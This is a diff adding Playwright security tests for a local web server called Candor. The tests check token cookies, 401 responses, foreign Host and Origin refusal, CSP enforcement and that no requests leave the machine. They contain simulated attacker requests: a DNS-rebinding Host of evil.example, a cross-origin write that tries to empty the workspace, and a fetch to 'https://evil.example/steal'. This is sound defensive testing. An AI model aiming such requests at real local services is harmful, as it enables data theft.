@@ -1,0 +1,264 @@
+// The local web mode listens on 127.0.0.1, where any web page the person opens can reach it. These
+// tests play the attacker (no token, a rebound Host, a foreign Origin) and the auditor (no Node.js
+// in the page, a CSP that is enforced, no request to anywhere but the server).
+import { readFile } from 'node:fs/promises';
+import { expect, test } from './support/fixtures';
+import { rawRequest } from './support/raw-http';
+
+test('the page has no Node.js', async ({ app }) => {
+  const surface = await app.page.evaluate(() => {
+    const w = window as unknown as Record<string, unknown>;
+    return {
+      windowRequire: typeof w.require,
+      windowProcess: typeof w.process,
+      windowModule: typeof w.module,
+      // A bare `require` must not resolve from page scripts either.
+      require: new Function('return typeof require')() as string,
+      process: new Function('return typeof process')() as string,
+    };
+  });
+  expect(surface).toEqual({
+    windowRequire: 'undefined',
+    windowProcess: 'undefined',
+    windowModule: 'undefined',
+    require: 'undefined',
+    process: 'undefined',
+  });
+});
+
+test('candor serve prints one line, and the token in it becomes an HttpOnly cookie and leaves the address bar', async ({
+  app,
+  candor,
+  page,
+}) => {
+  expect(candor.stdout()).toBe(`Candor is running at ${candor.origin}/?token=${candor.token}\n`);
+  expect(candor.token.length).toBeGreaterThanOrEqual(32);
+  expect(page.url()).not.toContain(candor.token);
+  expect(new URL(page.url()).searchParams.has('token')).toBe(false);
+  const cookies = await page.context().cookies(candor.origin);
+  const cookie = cookies.find((c) => c.value === candor.token);
+  expect(cookie, 'the token is kept in a cookie').toBeDefined();
+  expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/' });
+  // The page's own scripts cannot read it.
+  expect(await page.evaluate(() => document.cookie)).not.toContain(candor.token);
+  await expect(app.saveStatus).toHaveAttribute('data-status', 'saved');
+});
+
+test('requests without the token get 401', async ({ browser, request, candor }) => {
+  await test.step('a fresh browser context, with no cookie', async () => {
+    const context = await browser.newContext();
+    try {
+      const page = await context.newPage();
+      const response = await page.goto(`${candor.origin}/`);
+      expect(response?.status()).toBe(401);
+      await expect(page.locator('body')).toContainText('did not carry the access token');
+      const invoke = await page.evaluate(async () => {
+        const r = await fetch('/api/invoke/workspace-get', {
+          method: 'POST',
+          headers: { 'Content-Type': 'application/json' },
+          body: '{}',
+        });
+        return { status: r.status, text: await r.text() };
+      });
+      expect(invoke.status).toBe(401);
+      expect(invoke.text).not.toContain('"workspace"');
+      const events = await page.evaluate(async () => (await fetch('/api/events')).status);
+      expect(events).toBe(401);
+    } finally {
+      await context.close();
+    }
+  });
+
+  await test.step('Playwright’s request context and Node’s fetch, with no cookie', async () => {
+    expect((await request.get(`${candor.origin}/`)).status()).toBe(401);
+    expect((await request.post(`${candor.origin}/api/invoke/workspace-get`, { data: {} })).status()).toBe(401);
+    expect((await request.get(`${candor.origin}/api/events`)).status()).toBe(401);
+    expect((await fetch(`${candor.origin}/`)).status).toBe(401);
+    const invoke = await fetch(`${candor.origin}/api/invoke/workspace-get`, {
+      method: 'POST',
+      headers: { 'Content-Type': 'application/json' },
+      body: '{}',
+    });
+    expect(invoke.status).toBe(401);
+    expect((await rawRequest(candor.port, { path: '/api/events' })).status).toBe(401);
+  });
+
+  await test.step('a wrong token is no better than none', async () => {
+    const wrong = candor.token.replace(/^./, (c) => (c === 'A' ? 'B' : 'A'));
+    expect((await fetch(`${candor.origin}/?token=${wrong}`, { redirect: 'manual' })).status).toBe(401);
+    const invoke = await fetch(`${candor.origin}/api/invoke/workspace-get`, {
+      method: 'POST',
+      headers: { 'Content-Type': 'application/json', 'X-Candor-Token': wrong },
+      body: '{}',
+    });
+    expect(invoke.status).toBe(401);
+  });
+
+  await test.step('the right token opens the same doors (so the 401s above are about the token)', async () => {
+    const invoke = await fetch(`${candor.origin}/api/invoke/workspace-get`, {
+      method: 'POST',
+      headers: { 'Content-Type': 'application/json', 'X-Candor-Token': candor.token },
+      body: '{}',
+    });
+    expect(invoke.status).toBe(200);
+    expect(await invoke.json()).toMatchObject({ ok: true, value: { status: 'open' } });
+    const events = await rawRequest(candor.port, { path: '/api/events', headers: { 'X-Candor-Token': candor.token } });
+    expect(events.status).toBe(200);
+  });
+});
+
+test('a request with the token but a foreign Host is refused', async ({ candor, workspaceFile }) => {
+  const before = await readFile(workspaceFile, 'utf8');
+  const invoke = (host: string) =>
+    rawRequest(candor.port, {
+      method: 'POST',
+      path: '/api/invoke/workspace-get',
+      headers: { Host: host, 'Content-Type': 'application/json', 'X-Candor-Token': candor.token },
+      body: '{}',
+    });
+
+  const rebound = await invoke(`evil.example:${candor.port}`);
+  expect(rebound.status).toBe(421);
+  expect(rebound.body).not.toContain('"workspace"');
+  const page = await rawRequest(candor.port, { path: `/?token=${candor.token}`, headers: { Host: `evil.example:${candor.port}` } });
+  expect(page.status).toBe(421);
+  expect(page.headers['set-cookie']).toBeUndefined();
+
+  // The same request addressed to the server's own name is answered.
+  const own = await invoke(`127.0.0.1:${candor.port}`);
+  expect(own.status).toBe(200);
+  expect(JSON.parse(own.body)).toMatchObject({ ok: true });
+  expect(await readFile(workspaceFile, 'utf8')).toBe(before);
+});
+
+test('a POST from a foreign Origin is refused and changes nothing', async ({ candor, workspaceFile, initialWorkspace }) => {
+  const before = await readFile(workspaceFile, 'utf8');
+  const post = (name: string, origin: string, body: unknown) =>
+    rawRequest(candor.port, {
+      method: 'POST',
+      path: `/api/invoke/${name}`,
+      headers: {
+        Host: `127.0.0.1:${candor.port}`,
+        Origin: origin,
+        'Content-Type': 'application/json',
+        'X-Candor-Token': candor.token,
+      },
+      body: JSON.stringify(body),
+    });
+
+  const read = await post('workspace-get', 'https://evil.example', {});
+  expect(read.status).toBe(403);
+  expect(read.body).not.toContain('"workspace"');
+
+  const own = await post('workspace-get', candor.origin, {});
+  expect(own.status).toBe(200);
+  const state = JSON.parse(own.body) as { ok: true; value: { revision: string } };
+
+  const emptied = { ...initialWorkspace, dataTypes: [] };
+  const write = await post('workspace-save', 'https://evil.example', { workspace: emptied, baseRevision: state.value.revision });
+  expect(write.status).toBe(403);
+  expect(await readFile(workspaceFile, 'utf8')).toBe(before);
+});
+
+test('a Content-Security-Policy is declared and enforced', async ({ candor, page, app }) => {
+  const leaks: string[] = [];
+  await page.route(
+    (url) => !url.href.startsWith(`${candor.origin}/`),
+    (route) => {
+      leaks.push(route.request().url());
+      return route.abort();
+    },
+  );
+
+  await test.step('in the response header and the page’s meta tag', async () => {
+    const response = await page.goto(`${candor.origin}/`);
+    expect(response?.status()).toBe(200);
+    const header = response!.headers()['content-security-policy'];
+    expect(header).toBeDefined();
+    for (const csp of [header, await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')]) {
+      expect(csp).toContain("default-src 'self'");
+      expect(csp).toContain("script-src 'self'");
+      expect(csp).toContain("connect-src 'self'");
+      expect(csp).toContain("object-src 'none'");
+      expect(csp).not.toContain('unsafe-eval');
+      expect(csp).not.toMatch(/https?:|\*/);
+    }
+    await expect(app.saveStatus).toBeVisible();
+  });
+
+  await test.step('an injected inline script does not run and a fetch elsewhere is blocked', async () => {
+    const outcome = await page.evaluate(async () => {
+      const violations: string[] = [];
+      document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
+      const script = document.createElement('script');
+      script.textContent = 'window.__candorInlineRan = true;';
+      document.head.append(script);
+      let fetchFailed = false;
+      try {
+        await fetch('https://evil.example/steal');
+      } catch {
+        fetchFailed = true;
+      }
+      await new Promise((r) => setTimeout(r, 200));
+      return { inlineRan: (window as unknown as Record<string, unknown>).__candorInlineRan === true, fetchFailed, violations };
+    });
+    expect(outcome.inlineRan).toBe(false);
+    expect(outcome.fetchFailed).toBe(true);
+    expect(outcome.violations).toEqual(expect.arrayContaining(['script-src-elem inline', 'connect-src https://evil.example/steal']));
+    // The policy stopped the fetch before it reached the network.
+    expect(leaks).toEqual([]);
+  });
+});
+
+test('no request leaves the machine during a whole session', async ({ page, candor, app, inventory, editor, savedWorkspace }) => {
+  const requests: string[] = [];
+  page.context().on('request', (request) => requests.push(request.url()));
+  // A request the CSP blocks never reaches the network, so count policy violations too.
+  await page.addInitScript(() => {
+    const w = window as unknown as { __violations: string[] };
+    w.__violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
+  });
+  const violations = () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
+
+  await test.step('open, search, filter and edit', async () => {
+    await app.reload();
+    await inventory.search.fill('email');
+    await expect(inventory.count).toHaveText(/ of /);
+    await inventory.search.fill('');
+    await inventory.filterBy('status', 'In review');
+    await inventory.clearFilters();
+    await inventory.open('Email address');
+    await editor.benefit.fill('You can sign in anywhere and get your receipts.');
+    expect((await savedWorkspace()).dataTypes[0].benefit).toBe('You can sign in anywhere and get your receipts.');
+    await editor.backLink.click();
+    await inventory.addFromLibrary('photo', 'Photos');
+    await expect(editor.title).toHaveText('Photos');
+  });
+
+  await test.step('visit every screen, menu and dialog', async () => {
+    for (const section of ['Purposes', 'Recipients', 'Collection points', 'Organization & settings', 'Data types'] as const) {
+      await app.goTo(section);
+    }
+    await app.chooseFileMenuItem('About Candor');
+    const about = page.getByRole('dialog');
+    await expect(about).toBeVisible();
+    await page.keyboard.press('Escape');
+    await expect(about).toBeHidden();
+    await app.chooseFileMenuItem('Backups…');
+    await expect(page.getByRole('dialog')).toBeVisible();
+    await page.keyboard.press('Escape');
+    await app.header.getByRole('button', { name: /Switch to (dark|light) theme/ }).click();
+    await app.reload();
+    await expect(inventory.heading).toBeVisible();
+  });
+
+  await test.step('every request went to the server', async () => {
+    const paths = requests.map((url) => (url.startsWith(candor.origin) ? new URL(url).pathname : url));
+    // The recorder saw the session (so an empty list cannot pass for a clean one).
+    expect(paths).toEqual(expect.arrayContaining(['/', '/api/invoke/workspace-get', '/api/invoke/workspace-save', '/api/events']));
+    const elsewhere = requests.filter((url) => !url.startsWith(`${candor.origin}/`) && !/^(data|blob):/.test(url));
+    expect(elsewhere).toEqual([]);
+    expect(await violations()).toEqual([]);
+  });
+});
